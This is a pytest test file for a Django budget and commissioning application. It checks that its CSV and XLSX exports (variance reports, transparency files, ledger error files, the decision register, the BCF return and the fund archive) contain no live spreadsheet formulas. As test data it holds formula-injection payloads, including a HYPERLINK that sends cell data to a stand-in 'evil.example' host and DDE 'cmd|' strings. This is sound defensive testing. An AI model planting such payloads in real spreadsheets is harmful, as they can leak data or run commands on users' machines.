"""No live formula in any export (issue 21 items 8 and 9, and the Deliver section).

Every text field of every row behind the exports is set to a formula attack (=HYPERLINK, +cmd|,
@SUM, -1+1, and tab or carriage return in front of = in multi-line fields), then every file the
project offers is made and read back cell by cell: the variance report (CSV, XLSX) asked for and
frozen at month-end close, transparency spend files (both templates), ledger import error files
(both engines), the procurement decision register, the BCF quarterly return and the fund archive.
A cell is live when a spreadsheet would run it: text starting with = + - @ tab or CR that is not
a plain number, or (XLSX) a formula cell.
"""

from __future__ import annotations

import csv
import io
import re
from decimal import Decimal
from pathlib import Path

import pytest
from django.apps import apps
from django.db import connection, models
from django.urls import reverse
from openpyxl import load_workbook

from gmhsc.spreadsheets import TRIGGERS

pytestmark = pytest.mark.django_db
D = Decimal

ONE_LINE = [
    '=HYPERLINK("http://evil.example/?leak="&A1,"Click for details")',
    "+cmd|' /C calc'!A0",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "-1+1",
    "=1+1",
]
MULTI_LINE = [*ONE_LINE, "\t=1+1", "\r=1+1", "=1+1\n=2+2"]
NUMBER = re.compile(r"^-?[0-9]+(\.[0-9]+)?$")
# Reference rows whose text other code parses (year codes, period codes); spend postings never
# change (hostile ones are posted through the service instead).
KEEP = {
    ("budgets", "financialyear"),
    ("budgets", "period"),
    ("budgets", "spendposting"),
}
KEEP_FIELDS = {"username", "password", "email", "file", "filename", "sha256", "checksum"}


def hostile_everywhere() -> int:
    """Put a formula attack in every free-text field of every row (choices, JSON and reference
    codes other code parses are left alone). Returns how many values were changed."""
    changed = 0
    n = 0
    for app in ("localities", "budgets", "commissioning", "boards"):
        for model in apps.get_app_config(app).get_models():
            if (app, model._meta.model_name) in KEEP or model._meta.model_name.startswith(
                "historical"
            ):
                continue
            text_fields = [
                f
                for f in model._meta.concrete_fields
                if isinstance(f, models.CharField | models.TextField)
                and not f.choices
                and f.name not in KEEP_FIELDS
            ]
            if not text_fields:
                continue
            for obj in model._default_manager.all():
                updates = {}
                for f in text_fields:
                    n += 1
                    payloads = MULTI_LINE if isinstance(f, models.TextField) else ONE_LINE
                    payload = payloads[n % len(payloads)]
                    suffix = f" {n:05d}"
                    limit = f.max_length or 10_000
                    value = payload[: max(limit - len(suffix), 1)] + suffix
                    updates[f.attname] = value[:limit]
                model._default_manager.filter(pk=obj.pk).update(**updates)
                changed += len(updates)
    for user in apps.get_model("localities", "User").objects.all():
        n += 1
        user.first_name = ONE_LINE[n % len(ONE_LINE)][:140]
        user.last_name = f"-1+{n}"
        user.save(update_fields=["first_name", "last_name"])
    return changed


def live_csv_cells(data: bytes | str, name: str) -> list[str]:
    text = data.decode("utf-8-sig") if isinstance(data, bytes) else data
    found = []
    for r, row in enumerate(csv.reader(io.StringIO(text, newline="")), start=1):
        for c, cell in enumerate(row, start=1):
            if cell.startswith(TRIGGERS) and not NUMBER.match(cell):
                found.append(f"{name} row {r} column {c}: {cell[:50]!r}")
    return found


def live_xlsx_cells(data: bytes, name: str) -> list[str]:
    book = load_workbook(io.BytesIO(data))  # formulas kept, not evaluated
    found = []
    for sheet in book.worksheets:
        for row in sheet.iter_rows():
            for cell in row:
                value = cell.value
                if cell.data_type == "f":
                    found.append(
                        f"{name} {sheet.title}!{cell.coordinate} is a formula: {value!r:.50}"
                    )
                elif (
                    isinstance(value, str)
                    and value.startswith(TRIGGERS)
                    and not NUMBER.match(value)
                ):
                    found.append(f"{name} {sheet.title}!{cell.coordinate}: {value[:50]!r}")
    return found


@pytest.fixture
def world(django_capture_on_commit_callbacks):
    """The small variance fund (postings, a reversal, a virement, forecasts, commitments), a
    contract with a decision, a BCF scheme and a rejected ledger import, all through the services;
    then every text field made hostile."""
    from budgets.figures.recompute import recompute_fund_now
    from budgets.ledger.services.mappings import mapping_set
    from commissioning import services
    from tests.budgets.factories import small_variance_fund
    from tests.commissioning.helpers import (
        award_decision,
        bcf_metric,
        bcf_scheme,
        provider_and_service,
    )

    with django_capture_on_commit_callbacks(execute=True):
        w = small_variance_fund()
    provider, service = provider_and_service(w)
    import datetime as dt

    contract = services.contract_create(
        actor=w.comm_host,
        fund=w.fund,
        year=w.year,
        reference="C-001",
        title="Home care framework",
        service=service,
        provider=provider,
        value=D("36000.00"),
        start_date=dt.date(2016, 10, 1),
        end_date=dt.date(2017, 3, 31),
        status="planned",
        profile={w.host_line.pk: {n: D("6000.00") for n in range(7, 13)}},
    )
    award_decision(
        w.comm_host,
        contract,
        "36000.00",
        conflicts_declared="Lead: spouse works for a bidder",
        conflicts_handling="Left the room",
    )
    w.fund.is_bcf = True
    w.fund.save(update_fields=["is_bcf"])
    bcf_scheme(
        w,
        "S01",
        "1000.00",
        {1: "250.00"},
        name="Carers",
        scheme_type="carers",
        provider_type="charity",
    )
    bcf_metric(w, "BCF6", 1, "10", actual="9", local_definition="Falls")
    mapping_set(
        actor=w.fin_host,
        organisation=w.host,
        year=w.year,
        cost_centre="CC100",
        expense_code="E5100",
        budget_line=w.host_line,
        reason="setup",
    )
    from budgets.ledger.services.postings import spend_post

    with django_capture_on_commit_callbacks(execute=True):
        spend_post(
            actor=w.fin_host,
            organisation=w.host,
            rows=[
                {
                    "document_number": attack[:36] + f" {n}",
                    "line_number": 1,
                    "posting_date": "2016-09-20",
                    # Over the £500 published; the first over £25,000, so the HM Treasury file
                    # has rows too (the small fund's own postings are all below it).
                    "amount": "-612.50" if n % 2 else "26000.00" if n == 0 else "750.00",
                    "budget_line": w.host_line,
                    "supplier": attack,
                    "description": MULTI_LINE[n % len(MULTI_LINE)],
                }
                for n, attack in enumerate(ONE_LINE)
            ],
        )
    w.changed = hostile_everywhere()
    with django_capture_on_commit_callbacks(execute=True):
        recompute_fund_now(w.fund)
    return w


def test_no_export_carries_a_live_formula(
    world, client, tmp_path, django_capture_on_commit_callbacks
):
    from django.core.files.uploadedfile import SimpleUploadedFile

    from budgets.archive.export import export_archive
    from budgets.ledger.imports import error_file, start_import
    from budgets.models import ExportJob, Period
    from budgets.reports import exports, transparency
    from budgets.reports.variance import GROUPINGS, compute_variance_report
    from tests.budgets.factories import close_months_by_service

    w = world
    assert w.changed > 80
    found: list[str] = []
    files = 0
    m6 = Period.objects.get(year=w.year, number=6)

    # The variance report, asked for: CSV and XLSX in every grouping.
    for grouping in GROUPINGS:
        report = compute_variance_report(fund=w.fund, period=m6, grouping=grouping)
        assert report.rows
        found += live_csv_cells(exports.render(report, "csv"), f"variance {grouping}.csv")
        found += live_xlsx_cells(exports.render(report, "xlsx"), f"variance {grouping}.xlsx")
        files += 2

    # Month-end close: the frozen month's files.
    import datetime as dt

    with django_capture_on_commit_callbacks(execute=True):
        close_months_by_service(w, through=6, files=True, today=dt.date(2017, 4, 30))
    closing = ExportJob.objects.filter(fund=w.fund, period=m6, source=ExportJob.Source.PERIOD_CLOSE)
    assert sorted(j.format for j in closing) == ["csv", "pdf", "xlsx"]
    for job in closing.exclude(format="pdf"):
        data = job.file.open("rb").read()
        check = live_csv_cells if job.format == "csv" else live_xlsx_cells
        found += check(data, f"month-close {job.filename}")
        files += 1

    # Transparency spend files, both templates.
    for template in transparency.TEMPLATES:
        rows = transparency.transparency_rows(
            organisation=w.host, year=w.year, numbers=[6], template=template
        )
        assert rows
        data = transparency.render_transparency_csv(rows, template)
        found += live_csv_cells(data, f"transparency {template}")
        files += 1

    # Ledger import error files, both engines, with hostile values echoed in the problems.
    from tests.budgets.factories import LEDGER_HEADER

    bad = (
        f"{LEDGER_HEADER},budget_line,period\n"
        f'{w.host.code},=HYPERLINK("x"),1,2016-09-30,=cmd,@SUM(1),-1+1,Acme,d,+cmd|x,=1+1\n'
    )
    engines = ["python", "sql"] if connection.vendor == "postgresql" else ["python"]
    for engine in engines:
        from budgets.ledger import imports as ledger_imports

        upload = SimpleUploadedFile("bad.csv", bad.encode())
        imp = start_import(actor=w.fin_host, organisation=w.host, upload=upload, run_now=False)
        ledger_imports.run_import(imp.pk, engine=engine)
        imp.refresh_from_db()
        assert imp.status == "rejected"
        found += live_csv_cells(error_file(imp), f"ledger errors ({engine})")
        files += 1
    client.force_login(w.fin_host)
    response = client.get(reverse("budgets:ledger-import-errors", args=[imp.pk]))
    found += live_csv_cells(response.content, "ledger errors page")
    files += 1

    # The procurement decision register and the BCF quarterly return.
    client.force_login(w.comm_host)
    response = client.get(reverse("commissioning:decision-register-csv"))
    assert response.status_code == 200
    found += live_csv_cells(response.content, "decision register")
    response = client.get(reverse("commissioning:bcf-return", args=[w.fund.pk]) + "?quarter=1")
    assert response.status_code == 200, response.content[:300]
    found += live_xlsx_cells(response.content, "BCF return")
    files += 2

    # The fund archive: every table.
    out = tmp_path / "archive"
    export_archive(fund=w.fund, year=w.year, out_dir=out)
    for path in sorted(Path(out).glob("*.csv")):
        found += live_csv_cells(path.read_text(encoding="utf-8"), f"archive {path.name}")
        files += 1

    assert files >= 20
    assert not found, f"{len(found)} live formulas:\n" + "\n".join(found[:50])


def test_the_fund_archive_reads_hostile_text_back_exactly(world, tmp_path):
    """The archive's neutralising is reversible: what the restore reads is the text as it was
    (the full restore round trip is tests/budgets/test_archive.py)."""
    from budgets.archive.export import export_archive
    from budgets.archive.restore import _rows
    from budgets.models import BudgetLine, SpendPosting

    w = world
    out = tmp_path / "archive"
    export_archive(fund=w.fund, year=w.year, out_dir=out)
    lines = dict(BudgetLine.objects.filter(fund=w.fund).values_list("code", "name"))
    assert all(name.startswith(TRIGGERS) for name in lines.values())
    assert {r["code"]: r["name"] for r in _rows(out, "budget_lines")} == lines
    postings = {
        (p.document_number, p.line_number): (p.supplier, p.description)
        for p in SpendPosting.objects.filter(fund=w.fund)
    }
    read = {
        (r["document_number"], int(r["line_number"])): (r["supplier"], r["description"])
        for r in _rows(out, "spend_postings")
    }
    assert read == postings
